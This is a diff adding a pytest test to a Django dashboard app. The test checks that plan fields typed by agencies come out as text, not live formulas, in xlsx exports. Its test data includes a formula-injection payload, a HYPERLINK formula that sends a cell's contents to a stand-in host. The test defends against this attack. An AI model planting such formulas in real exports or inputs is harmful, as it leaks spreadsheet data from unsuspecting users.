@@ -1,6 +1,7 @@
 """The dashboards as their users see them: who sees what, drill-down, exports, public page."""
 
 import io
+import zipfile
 
 import pytest
 from django.urls import reverse
@@ -255,3 +256,39 @@ def test_a_level_filter_keeps_that_levels_procedures(client, supervisor, departm
     )
     assert commune_level.context["data"].figures.received == 3  # KT.01 is a commune procedure
     assert province_level.context["data"].figures.received == 0
+
+
+def test_a_plan_field_starting_with_equals_arrives_as_text_in_the_export(
+    client, supervisor, department, version
+):
+    """A plan's document number or reason is what an agency typed: in the supervisor's
+    export it is text, never a live formula (formula injection)."""
+    version.agencies.add(department)
+    administrator = UserFactory(username="quantri.stp")
+    MembershipFactory(user=administrator, agency=department, role=Role.AGENCY_ADMIN)
+    client.force_login(administrator)
+    url = reverse("monitoring:plan_edit") + f"?agency={department.code}&year=2026"
+    payload = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
+    saved = client.post(
+        url,
+        {
+            "document_number": payload[:50],
+            "issued_on": "2026-02-01",
+            f"proc_{version.procedure_id}_eligible": "no",
+            f"proc_{version.procedure_id}_reason": payload,
+            "target_eligible_full_online_share_6": "80",
+        },
+    )
+    assert saved.status_code == 302
+    client.force_login(supervisor)
+    plan = client.get(saved["Location"], {"xuat": "xlsx"})
+    plans = client.get(reverse("monitoring:plans"), {"year": 2026, "xuat": "xlsx"})
+    for response, expected in ((plan, payload), (plans, payload[:50])):
+        content = response.content
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+            assert not any(b"<f>" in archive.read(n) for n in sheets)
+        book = load_workbook(io.BytesIO(content))
+        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+        typed = [c for c in cells if c.value == expected]
+        assert typed and all(c.data_type == "s" for c in typed)
